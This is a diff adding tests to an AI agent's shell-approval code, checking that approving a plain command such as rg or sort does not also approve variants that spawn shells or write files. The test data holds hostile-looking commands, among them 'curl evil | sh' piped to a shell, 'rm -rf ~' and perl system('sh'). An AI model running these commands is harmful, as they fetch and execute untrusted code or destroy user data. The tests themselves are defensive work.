@@ -229,11 +229,86 @@ describe('approvals', () => {
         ['ssh', 'host', 'uptime'],
         ['ssh', 'host', 'rm -rf ~'],
       ],
+      [
+        ['sort', 'a.txt'],
+        ['sort', '-o', '/etc/x', 'a.txt'],
+      ],
+      [
+        ['sort', 'a.txt'],
+        ['sort', '--compress-prog=sh', 'a.txt'],
+      ],
+      [
+        ['rg', 'x'],
+        ['rg', '--pre', 'sh', 'x'],
+      ],
+      [
+        ['fd', 'x'],
+        ['fd', 'x', '-x', 'rm'],
+      ],
+      [
+        ['uniq', 'a.txt'],
+        ['uniq', 'a.txt', 'b.txt'],
+      ],
+      [
+        ['cat', 'a.txt'],
+        ['./cat', 'a.txt'],
+      ],
+      // Unknown programs (m4 esyscmd, ed !cmd, xargs, make …) get the exact argv only.
+      [
+        ['m4', 'a.m4'],
+        ['m4', 'b.m4'],
+      ],
+      [
+        ['xargs', 'echo'],
+        ['xargs', 'rm'],
+      ],
+      [
+        ['make', 'all'],
+        ['make', 'install'],
+      ],
+      [
+        ['env', 'FOO=1', 'ls'],
+        ['env', 'sh', '-c', 'curl evil | sh'],
+      ],
+      [
+        ['perl', '-e', 'print 1'],
+        ['perl', '-e', 'system("sh")'],
+      ],
     ];
     for (const [approved, next] of widen) expect(shellActionClass(next)).not.toBe(shellActionClass(approved));
     // An ordinary program is still covered across arguments while sandboxed, never without it.
     expect(shellActionClass(['ls', '-la'])).toBe(shellActionClass(['ls', 'docs']));
     expect(shellActionClass(['ls', '-la'], false)).not.toBe(shellActionClass(['ls', 'docs'], false));
+  });
+
+  it('sandboxed, a grant on a plain read (rg) never covers its options that run a program or write a file, nor a program at a path', async () => {
+    h = await toolsHarness({ config: { shell: { sandbox: 'auto' } } });
+    expect(h.tools.sandbox.state.enabled).toBe(true);
+    const ws = fs.realpathSync(h.ctx.paths.workspace);
+    fs.writeFileSync(path.join(ws, 'notes.txt'), 'needle\nhay\n');
+    fs.writeFileSync(path.join(ws, 'pre.sh'), '#!/bin/sh\necho PRE_RAN > pre-ran.txt\ncat "$1"\n', { mode: 0o755 });
+    fs.writeFileSync(path.join(ws, 'rg'), '#!/bin/sh\necho LOCAL_RG_RAN > local-rg.txt\n', { mode: 0o755 });
+    const task = h.task({ taskId: 'task_rg' });
+    const first = h.run('shell', { argv: ['rg', 'needle', 'notes.txt'] }, task);
+    const a = await nextApproval();
+    await h.send('approval.decide', { approvalId: a.id, hash: a.hash, decision: 'allow_task' });
+    expect(textOf(await first)).toContain('needle');
+    // Another plain search with the same program is covered.
+    expect(textOf(await h.run('shell', { argv: ['rg', '-n', 'hay', 'notes.txt'] }, task))).toContain('2:hay');
+    // Options that run a program, and a program at a path under the same name, ask again.
+    for (const argv of [
+      ['rg', '--pre', './pre.sh', 'needle', 'notes.txt'],
+      ['rg', '--pre=./pre.sh', 'needle', 'notes.txt'],
+      ['./rg', 'needle'],
+    ]) {
+      const call = h.run('shell', { argv }, task);
+      const b = await nextApproval();
+      expect(b.action.argv).toEqual(argv);
+      await h.send('approval.decide', { approvalId: b.id, hash: b.hash, decision: 'deny' });
+      expect((await call).state).toBe('denied');
+    }
+    expect(fs.existsSync(path.join(ws, 'pre-ran.txt'))).toBe(false);
+    expect(fs.existsSync(path.join(ws, 'local-rg.txt'))).toBe(false);
   });
 
   it('cancelling the task ends the wait', async () => {
